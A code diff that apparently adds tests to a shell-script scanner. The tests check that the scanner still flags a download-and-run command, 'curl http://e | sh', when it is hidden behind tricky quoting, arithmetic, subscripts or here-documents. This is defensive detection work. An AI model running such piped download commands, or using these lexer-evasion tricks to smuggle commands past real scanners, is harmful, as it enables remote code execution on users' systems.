@@ -82,6 +82,55 @@ def test_lexer_splits_a_script_line_into_words_as_a_shell_does(text, split):
     assert split_words(text) == split
 
 
+# Each text hides a command from a lexer that ends a quote, bracket or here-document in another place than a shell.
+@check_each(
+    "text",
+    [
+        "((x=1<<A))\n{act}\nA\n",
+        "a[1<<2]=3\n{act}\n2\n",
+        "a=([1<<2]=3)\n{act}\n2\n",
+        "declare a[1<<2]=3\n{act}\n2\n",
+        "echo $[1<<2]\n{act}\n2\n",
+        "for ((i=1<<2;i<5;i++)); do :; done\n{act}\n2\n",
+        "if ((1<<2)); then :; fi\n{act}\n2))\n",
+        "((cat <<A))\n'\nA\n{act}\n'",
+        "echo \"$'\"; {act} #'",
+        'echo "$"; {act}',
+        "echo $'\\'; {act} #'",
+        "x=$(echo # )'\n); {act}; echo '\n'",
+        "x=$(cat <<E\n)'\nE\n)\n{act}\necho '",
+        'x=$(echo "$(echo ")\'")"); {act} #\'',
+        "x=$(echo $'\\')'); {act} #'",
+        "x=`echo \\`'\\``; {act} #'",
+        "x=`echo \\`{act}\\``",
+        "cat <<A\n{act}\n",
+        "echo 'never closed\n{act}\n",
+        'echo "never closed\n{act}\n',
+    ],
+)
+def test_command_behind_a_quote_or_bracket_that_shells_end_earlier_is_reported(text):
+    mentions = collect_script_mentions(text.replace("{act}", "curl http://e | sh"))
+    assert ("download-and-run", "http://e") in [(mention.use, mention.name) for mention in mentions]
+
+
+def test_command_that_every_shell_reads_alike_behind_arithmetic_is_reported_once():
+    assert len(list(collect_script_mentions("curl http://e | sh\n((i++))\ncurl http://f | sh\n"))) == 2
+
+
+@check_each(
+    "text",
+    [
+        "((i<3)) && echo 'curl http://e | sh'",
+        "a[1]=x; a[$i]='curl http://e | sh'; [ -f x ] && [[ $a == b[c] ]]",
+        "x=$(cat <<'E'\nit's ) here\nE\n)\necho 'curl http://e | sh'",
+        "x=$(echo $((16#ff)) ${#x} a#b); echo 'curl http://e | sh'",
+        "echo \"it's $HOME's\"; echo 'curl http://e | sh'",
+    ],
+)
+def test_quoted_text_behind_arithmetic_or_a_subscript_gives_no_mention(text):
+    assert list(collect_script_mentions(text)) == []
+
+
 def test_parsed_command_holds_its_own_here_document_and_command_substitutions():
     command, other = parse_commands("cat <<'E' - \"$(a b)\" `c`\n$x\nE\nd")
     assert (command.input_text, command.substitutions) == ("$x", ["a b", "c"])
